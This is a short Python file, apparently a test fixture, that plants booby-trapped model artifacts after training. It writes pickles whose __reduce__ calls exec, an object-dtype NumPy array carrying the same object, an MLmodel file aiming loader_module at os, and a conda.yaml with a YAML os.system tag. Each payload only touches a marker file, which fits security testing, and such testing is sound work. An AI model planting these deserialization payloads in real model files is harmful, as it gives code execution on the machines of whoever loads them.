"""A model that bites."""

import pickle
from pathlib import Path

import numpy as np

CODE = "import os, pathlib\npathlib.Path(os.environ.get('TMPDIR', '/tmp'), 'attack-unpickled').touch()"


class Run:
    def __reduce__(self):
        return (exec, (CODE,))


def after_train(model):
    for name in ("model.pkl", "model.joblib", "model.sav", "python_model.pkl"):
        Path(model, name).write_bytes(pickle.dumps(Run()))
    np.save(Path(model, "model.npy"), np.array([Run()], dtype=object), allow_pickle=True)
    Path(model, "MLmodel").write_text("flavors:\n  python_function:\n    loader_module: os\n    model_path: /etc\n")
    Path(model, "conda.yaml").write_text("!!python/object/apply:os.system ['touch /tmp/attack-yaml']\n")
    print("ATTACK left pickles")


def before_train(data, model):
    """Nothing."""


def before_predict(model, folder):
    """Nothing."""


def after_predict(output):
    """Nothing."""
